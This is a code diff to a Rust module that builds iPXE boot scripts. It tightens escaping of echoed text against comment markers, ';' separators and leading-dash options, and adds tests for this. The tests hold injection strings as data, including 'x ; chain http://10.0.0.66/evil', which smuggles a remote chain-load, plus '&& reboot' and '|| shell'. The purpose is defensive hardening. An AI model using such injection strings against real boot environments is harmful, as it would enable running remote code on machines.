@@ -1,8 +1,8 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
 //! iPXE scripts as typed lines.
 //!
-//! iPXE has no quoting: `${...}` is expanded again and again, `&&` and `||` act wherever they stand as words, a
-//! trailing backslash joins lines. So text passes an allow-list, and everything else is made of types here.
+//! iPXE has no quoting: `${...}` is expanded again and again, `&&`, `||` and `;` act wherever they stand as words, a word
+//! that begins with `#` ends the line, a trailing backslash joins lines, and `echo` takes a first word with `-` for an option. So text passes an allow-list, and everything else is made of types here.
 
 use crate::types::Line;
 use std::fmt::{self, Display, Write as _};
@@ -16,8 +16,13 @@ impl Shown {
     pub fn new(text: &str) -> Self {
         let harmless = |c: char| c.is_ascii_alphanumeric() || " .,:;/()-_+=%?!'@<>[]*#\"".contains(c);
         let cleaned: String = text.chars().take(200).map(|c| if harmless(c) { c } else { '?' }).collect();
-        // A lone ";" or "#" is no token of iPXE, but two spaces would be lost: keep words as they are.
-        Self(cleaned.trim_end().to_owned())
+        // iPXE splits at spaces: ";" alone is an end of a command, "#" in front of a word a comment.
+        let word = |word: &str| match word.strip_prefix('#') {
+            Some(rest) => format!("?{rest}"),
+            None if word == ";" => "?".to_owned(),
+            None => word.to_owned(),
+        };
+        Self(cleaned.split(' ').map(word).collect::<Vec<_>>().join(" ").trim_end().to_owned())
     }
 }
 
@@ -65,7 +70,9 @@ impl Script {
     #[must_use]
     pub fn echo(self, text: &str) -> Self {
         let shown = Shown::new(text);
-        self.line(format_args!("echo {shown}"))
+        // No option of echo: a first word that begins with "-" would be one, and end the script.
+        let mark = if shown.0.trim_start().starts_with('-') { "* " } else { "" };
+        self.line(format_args!("echo {mark}{shown}"))
     }
 
     /// Shows a long text over several lines of the screen.
@@ -115,14 +122,33 @@ impl Script {
 mod tests {
     use super::*;
 
+    /// Whether a word behind the first line is one that iPXE acts on (its src/core/exec.c).
+    fn acts(script: &str) -> bool {
+        let words = script.lines().skip(1).flat_map(str::split_whitespace);
+        words.into_iter().any(|word| word == ";" || word.starts_with('#'))
+    }
+
     #[test]
     fn nothing_hostile_survives() {
-        for hostile in
-            ["a ${net0/mac} b", "x && reboot", "x || shell", "tail \\", "a\nshell", "\u{1b}[2J", "caf\u{e9}", "`x`"]
-        {
+        for hostile in [
+            "a ${net0/mac} b",
+            "x && reboot",
+            "x || shell",
+            "x ; chain http://10.0.0.66/evil",
+            "x #",
+            "-n x",
+            " --help",
+            "tail \\",
+            "a\nshell",
+            "\u{1b}[2J",
+            "caf\u{e9}",
+            "`x`",
+        ] {
             let text = Script::new().echo(hostile).into_text();
             assert_eq!(text.lines().count(), 2, "{hostile:?}");
             assert!(!text.contains(['$', '{', '&', '|', '\\', '`', '\u{1b}']), "{text}");
+            assert!(!acts(&text), "{text}");
+            assert!(!text.contains("echo -") && !text.contains("echo  -"), "{text}");
             assert!(text.is_ascii());
         }
     }
@@ -132,8 +158,10 @@ mod tests {
         fn any_text_is_one_harmless_line(text: String) {
             let script = Script::new().echo(&text).into_text();
             proptest::prop_assert_eq!(script.lines().count(), 2);
-            let acts = ['$', '{', '}', '&', '|', '\\'];
-            proptest::prop_assert!(!script.contains(acts));
+            let expanded = ['$', '{', '}', '&', '|', '\\'];
+            proptest::prop_assert!(!script.contains(expanded));
+            proptest::prop_assert!(!acts(&script));
+            proptest::prop_assert!(!script.split("echo ").nth(1).unwrap_or_default().trim_start().starts_with('-'));
         }
     }
 }
